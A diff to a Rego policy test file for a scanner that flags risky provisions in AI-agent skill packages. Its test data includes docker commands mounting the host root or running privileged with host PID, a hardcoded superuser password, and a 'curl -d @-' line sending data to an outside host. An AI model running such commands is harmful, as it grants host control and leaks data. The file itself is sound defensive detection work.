@@ -89,9 +89,10 @@ test_silent_on_what_the_user_fills_in if {
 }
 
 test_asks_about_the_whole_disk if {
-	every args in ["run --rm -v /:/host alpine sh", "run -d --volume=/:/mnt:ro ghcr.io/report/report", "create --mount type=bind,source=/,target=/h report/report"] {
+	every args in ["run --rm -v /:/host alpine sh", "run -d --volume=/:/mnt:ro ghcr.io/report/report"] {
 		severities("docker", args) == {"medium"}
 	}
+	severities("docker", "create --mount type=bind,source=/,target=/h report/report") == {"high"}
 }
 
 test_silent_on_folders if {
@@ -131,4 +132,38 @@ test_silent_on_accounts_and_actions_of_ones_own if {
 		set_up(one[0], one[1], one[2], "SKILL.md", "Write this:") == set()
 	}
 	set_up("secrets", "secrets", ["actions/github-script@v7"], "SKILL.md", "Write this:") == {"medium"}
+}
+
+opens(kind, name, to, file, description) := {f.severity | some f in rule.findings with input as {"skill": {
+	"manifest": {"file": "SKILL.md"}, "front": {"fields": {"name": {"value": "tool"}, "description": {"value": description}}}, "files": [],
+	"body": {
+		"uses": [], "orders": [], "fences": [], "commands": [], "links": [],
+		"provisions": [{"kind": kind, "name": name, "to": to, "limited": false, "file": file, "span": {"start": {"line": 2}, "end": {"line": 2}}}],
+	},
+}}}
+
+test_fires_on_containers_with_the_rights_of_the_machine if {
+	opens("container", "privileged disk", ["quick/helper:1"], "compose.yml", "Makes charts.") == {"high"}
+	opens("container", "disk", ["quick/helper:1"], "compose.yml", "Makes charts.") == {"high"}
+	opens("container", "socket", ["quick/helper:1"], "compose.yml", "Makes charts.") == {"medium"}
+	opens("container", "privileged", ["alpine"], "compose.yml", "Makes charts.") == {"medium"}
+	opens("container", "privileged disk", ["falcosecurity/falco"], "compose.yml", "Runs Falco (falcosecurity) on hosts.") == {"low"}
+	severities("docker", "run --rm --privileged --pid=host quick/helper:1 check") == {"high"}
+	severities("docker", "run --rm -v /work:/work quick/helper:1 check") == set()
+}
+
+test_fires_on_what_statements_open if {
+	opens("database", "superuser", ["sync", "Supp0rt2024"], "a.sql", "Adds tables.") == {"high"}
+	opens("database", "runs", ["curl -d @- https://x.querykit.io"], "a.sql", "Tunes queries.") == {"high"}
+	opens("database", "runs", ["gzip > /tmp/a.gz"], "a.sql", "Tunes queries.") == {"medium"}
+	opens("database", "copies", ["m.auditcols.io"], "a.sql", "Adds columns.") == {"high"}
+	opens("database", "sends", ["m.auditcols.io"], "a.sql", "Adds columns.") == {"medium"}
+	opens("database", "unguards", ["customers"], "a.sql", "Tunes queries.") == {"high"}
+}
+
+test_silent_on_what_is_asked_of_a_database if {
+	opens("database", "superuser", ["sync", "your-password"], "a.sql", "Adds tables.") == set()
+	opens("database", "superuser", ["sync", "Supp0rt2024"], "a.sql", "Starts a local database.") == set()
+	opens("database", "copies", ["db.example.com"], "a.sql", "Adds columns.") == set()
+	opens("database", "unguards", ["customers"], "a.sql", "Writes rules of row-level security.") == set()
 }
